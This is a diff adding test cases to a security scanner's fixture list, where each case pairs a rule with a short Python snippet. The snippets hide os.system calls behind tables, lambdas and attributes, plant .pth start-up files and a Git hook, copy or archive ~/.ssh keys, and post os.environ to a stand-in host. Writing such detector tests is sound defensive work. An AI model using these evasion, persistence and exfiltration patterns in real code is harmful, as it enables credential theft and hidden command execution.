@@ -205,4 +205,114 @@ export const hiddenSiblings: readonly (readonly [way: string, rule: RuleId, code
     'import torch, dill\ntorch.load("a", pickle_module=dill)',
   ],
   ['numpy by position', 'unsafe-deserializer', 'import numpy\nnumpy.load("a", None, True)'],
+  [
+    'a table that is filled later',
+    'command-at-import',
+    'import os\nT = {}\nT["a"] = os.system\nT["a"]("ls")',
+  ],
+  [
+    'a table that is updated',
+    'command-at-import',
+    'import os\nT = {}\nT.update({"a": os.system})\nT["a"]("ls")',
+  ],
+  ['an item of a table by get', 'command-at-import', 'import os\nT = {"a": os.system}\nT.get("a")("ls")'],
+  [
+    'a loop over the items of a table',
+    'command-at-import',
+    'import os\nT = {"a": os.system}\nfor name, run in T.items():\n    run("ls")',
+  ],
+  [
+    'a list that is appended to',
+    'command-at-import',
+    'import os\nL = []\nL.append(os.system)\nfor run in L:\n    run("ls")',
+  ],
+  ['a table in a table', 'command-at-import', 'import os\nT = {"a": {"b": os.system}}\nT["a"]["b"]("ls")'],
+  [
+    'a loop over pairs',
+    'command-at-import',
+    'import os\nfor name, run in [("ls", os.system)]:\n    run(name)',
+  ],
+  ['a table by dict', 'command-at-import', 'import os\nT = dict(a=os.system)\nT["a"]("ls")'],
+  ['the first of a list', 'command-at-import', 'import os\nnext(iter([os.system]))("ls")'],
+  [
+    'a table of an object',
+    'command-at-import',
+    'import os\nclass A:\n    def __init__(self):\n        self.t = {"a": os.system}\n    def run(self):\n        self.t["a"]("ls")\nA().run()',
+  ],
+  [
+    'an attribute put onto an object',
+    'command-at-import',
+    'import os\nclass A:\n    pass\na = A()\na.run = os.system\na.run("ls")',
+  ],
+  [
+    'a function as an attribute of a class',
+    'command-at-import',
+    'import os\nclass A:\n    run = os.system\nA.run("ls")',
+  ],
+  [
+    'a function as an attribute of an object',
+    'command-at-import',
+    'import os\nclass A:\n    def __init__(self):\n        self.run = os.system\na = A()\na.run("ls")',
+  ],
+  [
+    'a function that is returned',
+    'command-at-import',
+    'import os\ndef get():\n    return os.system\nget()("ls")',
+  ],
+  [
+    'a function that a lambda returns',
+    'command-at-import',
+    'import os\nget = lambda: os.system\nget()("ls")',
+  ],
+  [
+    'a function that a method returns',
+    'command-at-import',
+    'import os\nclass A:\n    def get(self):\n        return os.system\nA().get()("ls")',
+  ],
+  [
+    'a path file in a folder of sysconfig',
+    'start-up-file',
+    'import sysconfig, os\nopen(os.path.join(sysconfig.get_paths()["purelib"], "a.pth"), "w").write("x")',
+  ],
+  [
+    'a path file in a path of sysconfig',
+    'start-up-file',
+    'import sysconfig\nfrom pathlib import Path\n(Path(sysconfig.get_path("purelib")) / "a.pth").write_text("x")',
+  ],
+  [
+    'a path file of the user',
+    'start-up-file',
+    'import site, os\nopen(os.path.join(site.USER_SITE, "a.pth"), "w").write("x")',
+  ],
+  ['a hook of Git', 'start-up-file', 'open(".git/hooks/post-merge", "w").write("x")'],
+  [
+    'keys in an archive',
+    'credentials-read',
+    'import tarfile, os\nt = tarfile.open("a.tgz", "w:gz")\nt.add(os.path.expanduser("~/.ssh"))',
+  ],
+  [
+    'keys in a zip',
+    'credentials-read',
+    'import zipfile, os\nwith zipfile.ZipFile("a.zip", "w") as z:\n    z.write(os.path.expanduser("~/.ssh/id_rsa"))',
+  ],
+  [
+    'a copy of keys',
+    'credentials-read',
+    'import shutil, os\nshutil.copytree(os.path.expanduser("~/.ssh"), "a")',
+  ],
+  [
+    'a list of keys',
+    'credentials-read',
+    'import os\nfor name in os.listdir(os.path.expanduser("~/.ssh")):\n    print(name)',
+  ],
+  [
+    'a stream',
+    'environment-sent',
+    'import httpx, os\nhttpx.stream("POST", "https://a.io", json=dict(os.environ))',
+  ],
+  [
+    'a web socket',
+    'environment-sent',
+    'import websocket, os\nws = websocket.WebSocket()\nws.send(str(dict(os.environ)))',
+  ],
 ];
